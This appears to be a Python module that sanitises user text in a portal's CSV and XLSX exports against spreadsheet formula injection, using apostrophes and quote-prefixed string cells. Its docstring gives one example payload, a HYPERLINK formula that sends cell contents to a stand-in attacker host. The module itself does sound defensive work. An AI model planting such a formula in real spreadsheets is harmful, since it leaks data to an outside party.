"""User text in the spreadsheets the portal writes: always text, never a formula.

A spreadsheet treats a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a
tab or carriage return before one) as a formula, and people name their organizations and systems
themselves: ``=HYPERLINK("http://evil.example/?d="&A1,"点击")`` runs when the file is opened. Every
sheet the portal writes (the reviewers' exports, the overdue lists, the bulk declaration's
template) puts user text through this module.

In CSV, which has no types, such a text gets a leading apostrophe (OWASP's advice; Excel then shows
it as text, the apostrophe visible). In XLSX the cell keeps its exact text, is written with the
string type (never a formula) and carries Excel's "quote prefix" style: the cell Excel itself makes
when someone types an apostrophe first, so it stays text even when edited, and the apostrophe is not
part of the value (a name read back from the sheet is the name written).
"""

from __future__ import annotations

from datetime import datetime

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
DATE_FORMAT = "yyyy-mm-dd"
CSV_DATETIME_FORMAT = "%Y-%m-%d %H:%M"
CSV_DATE_FORMAT = "%Y-%m-%d"


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def csv_text(value: str) -> str:
    """A text for a CSV cell that no spreadsheet reads as a formula."""
    return "'" + value if is_formula_like(value) else value


def write_text(cell, value: str):
    """Put ``value`` in an openpyxl cell (of a worksheet, or a write-only one) as text, whatever
    its first character. Returns the cell."""
    # openpyxl refuses control characters; they have no place in a name anyway.
    cell.value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell.data_type = "s"  # never a formula, whatever the first character
    if is_formula_like(cell.value):
        cell.quotePrefix = True
    return cell


def csv_cell(value):
    """A typed value as a CSV cell: dates as ISO text, text guarded, None empty."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.strftime(CSV_DATETIME_FORMAT)
    if hasattr(value, "strftime"):  # a date
        return value.strftime(CSV_DATE_FORMAT)
    if isinstance(value, str):
        return csv_text(value)
    return value


def xlsx_cell(sheet, value) -> WriteOnlyCell:
    """A typed value as a cell of a write-only sheet: real dates with their format, text as text."""
    if isinstance(value, str):
        return write_text(WriteOnlyCell(sheet), value)
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, datetime):
        cell.number_format = DATETIME_FORMAT
    elif hasattr(value, "strftime"):
        cell.number_format = DATE_FORMAT
    return cell
